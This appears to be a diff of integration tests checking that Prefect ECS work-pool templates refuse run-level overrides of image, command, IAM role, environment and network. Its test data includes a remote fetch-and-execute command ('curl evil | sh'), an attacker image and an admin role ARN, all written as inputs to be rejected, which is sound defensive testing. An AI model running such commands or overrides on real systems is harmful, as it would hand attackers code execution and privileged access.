@@ -15,6 +15,8 @@ writes it, and the S3 probe as that role.
 from __future__ import annotations
 
 import ast
+import asyncio
+import dataclasses
 import fnmatch
 import json
 import os
@@ -556,21 +558,63 @@ def test_jobs_in_a_vpc_get_network_interfaces_an_efa_group_kms_and_the_corpus_bu
 def test_the_ecs_pool_template_is_made_from_the_stacks_outputs(vpc_stack: Created) -> None:
     out = vpc_stack.stack.outputs
     image = f"{out['WorkerRepositoryUri']}:0123456789ab"
-    variables = ecs_job_template(vpc_stack.stack, image)["variables"]["properties"]
-    defaults = {k: v.get("default") for k, v in variables.items()}
-    assert defaults["image"] == image and defaults["cluster"] == out["ClusterName"]
-    assert (defaults["task_role_arn"], defaults["execution_role_arn"]) == (
-        out["FlowRunRoleArn"],
-        out["TaskExecutionRoleArn"],
-    )
-    assert defaults["vpc_id"] == out["VpcId"]
-    assert defaults["network_configuration"] == {
+    template = ecs_job_template(vpc_stack.stack, image)
+    job, variables = template["job_configuration"], template["variables"]["properties"]
+    assert job["task_definition"]["containerDefinitions"][0]["image"] == image and job["cluster"] == out["ClusterName"]
+    assert job["task_run_request"]["overrides"]["taskRoleArn"] == out["FlowRunRoleArn"]
+    assert job["execution_role_arn"] == out["TaskExecutionRoleArn"] and job["vpc_id"] == out["VpcId"]
+    assert job["network_configuration"] == {
         "subnets": out["SubnetIds"].split(","),
         "assignPublicIp": "DISABLED",
         "securityGroups": [],
     }
-    assert (defaults["cpu"], defaults["memory"], defaults["configure_cloudwatch_logs"]) == (4096, 16384, True)
-    assert defaults["cloudwatch_logs_options"]["awslogs-group"] == out["FlowRunLogGroup"]
+    assert job["configure_cloudwatch_logs"] is True
+    assert job["cloudwatch_logs_options"]["awslogs-group"] == out["FlowRunLogGroup"]
+    assert (variables["cpu"]["default"], variables["memory"]["default"]) == (4096, 16384)
+
+
+def test_a_run_cannot_change_what_the_ecs_pool_runs_as_whom_or_where(vpc_stack: Created, prefect_server: None) -> None:
+    """Issue 51: the image, command, roles, environment and network are the template's own, not variables: job
+    variables naming them are refused by the schema Prefect's server checks a run's job variables against, and even
+    given to the worker's configuration they change nothing."""
+    from prefect.utilities.schema_tools import ValidationError, validate
+    from prefect_aws.workers.ecs_worker import ECSJobConfiguration
+
+    def check(job_variables: dict[str, Any]) -> None:  # as Prefect's server checks a flow run's job variables
+        validate(job_variables, template["variables"], raise_on_error=True, preprocess=True, ignore_required=True)
+
+    stack = dataclasses.replace(
+        vpc_stack.stack, outputs={**vpc_stack.stack.outputs, "MaxRunBudgetUsd": "50000", "MaxJobInstances": "64"}
+    )
+    image = f"{stack.outputs['WorkerRepositoryUri']}:0123456789ab"
+    template = ecs_job_template(stack, image)
+    assert sorted(template["variables"]["properties"]) == [
+        "auto_deregister_task_definition", "cpu", "labels", "match_latest_revision_in_family", "memory", "name"
+    ]  # fmt: skip
+    evil = {
+        "image": "attacker/image:latest",
+        "command": "sh -c 'curl evil | sh'",
+        "env": {"BASH_ENV": "/tmp/x", "HLAT_MAX_BUDGET_USD": "1e12"},
+        "task_role_arn": "arn:aws:iam::123456789012:role/admin",
+        "task_definition_arn": "arn:aws:ecs:us-east-1:123456789012:task-definition/other:1",
+        "network_configuration": {"assignPublicIp": "ENABLED"},
+    }
+    for key, value in evil.items():
+        with pytest.raises(ValidationError, match=f"Additional properties are not allowed \\('{key}' was unexpected"):
+            check({key: value})
+    check({"cpu": 8192, "memory": 32768})
+    # The worker trusts what the server validated (prefect's from_template_and_values merges a given env): the rest
+    # of the template stays whatever values it is handed.
+    given = {k: v for k, v in evil.items() if k != "env"}
+    config = asyncio.run(ECSJobConfiguration.from_template_and_values(template, given))
+    assert config.task_definition["containerDefinitions"][0]["image"] == image
+    assert config.command == "prefect flow-run execute"
+    assert config.task_run_request["overrides"]["taskRoleArn"] == stack.outputs["FlowRunRoleArn"]
+    assert "taskDefinition" not in config.task_run_request
+    assert config.env == {
+        "AWS_DEFAULT_REGION": stack.region, "HLAT_MAX_BUDGET_USD": "50000", "HLAT_MAX_INSTANCES": "64"
+    }  # fmt: skip
+    assert config.network_configuration["assignPublicIp"] == "DISABLED"
 
 
 def test_a_missing_stack_or_an_unpushed_image_is_one_line_naming_the_fix(default_stack: Created) -> None:
@@ -702,11 +746,24 @@ def test_deploy_with_the_stack_sets_the_pool_the_secret_and_the_code_source(
     assert seven["parameters"]["storage"] == default_stack.stack.outputs["RunsRoot"]
     with get_client(sync_client=True) as client:
         template = client.read_work_pool(pool).base_job_template
-    image = template["variables"]["properties"]["image"]["default"]
+    image = template["job_configuration"]["task_definition"]["containerDefinitions"][0]["image"]
     assert image == f"{default_stack.stack.outputs['WorkerRepositoryUri']}:0123456789ab"
-    assert (
-        template["variables"]["properties"]["task_role_arn"]["default"] == default_stack.stack.outputs["FlowRunRoleArn"]
-    )
+    role = template["job_configuration"]["task_run_request"]["overrides"]["taskRoleArn"]
+    assert role == default_stack.stack.outputs["FlowRunRoleArn"]
+    # A run of a deployment on the pool that names the image, the command or the role is refused by the server
+    # before the run exists (issue 51); its size is a run's to choose.
+    from prefect.exceptions import PrefectHTTPStatusError
+
+    with get_client(sync_client=True) as client:
+        flow_id = client.create_flow_from_name(f"guard-{pool}")
+        deployment = client.create_deployment(flow_id, "guard", work_pool_name=pool, entrypoint="flows/x.py:f")
+        evil = ({"image": "attacker/x"}, {"command": "sh"}, {"task_role_arn": "arn:aws:iam::1:role/a"}, {"env": {}})
+        for job_variables in evil:
+            with pytest.raises(PrefectHTTPStatusError, match="Additional properties are not allowed"):
+                client.create_flow_run_from_deployment(deployment, job_variables=job_variables)
+        assert client.read_flow_runs() == [] or all(r.deployment_id != deployment for r in client.read_flow_runs())
+        run = client.create_flow_run_from_deployment(deployment, job_variables={"cpu": 8192, "memory": 32768})
+        assert run.job_variables == {"cpu": 8192, "memory": 32768}
     assert Secret.load("hlat-sagemaker-role").get() == default_stack.stack.outputs["SageMakerExecutionRoleArn"]
     # Again: the existing pool's template is set again (a new commit's image), the secret is unchanged.
     monkeypatch.setenv("HLAT_WORKER_TAG", "fedcba987654")
@@ -717,4 +774,5 @@ def test_deploy_with_the_stack_sets_the_pool_the_secret_and_the_code_source(
     assert "Secret block 'hlat-sagemaker-role': unchanged" in out
     with get_client(sync_client=True) as client:
         template = client.read_work_pool(pool).base_job_template
-    assert template["variables"]["properties"]["image"]["default"].endswith(":fedcba987654")
+    image = template["job_configuration"]["task_definition"]["containerDefinitions"][0]["image"]
+    assert image.endswith(":fedcba987654")
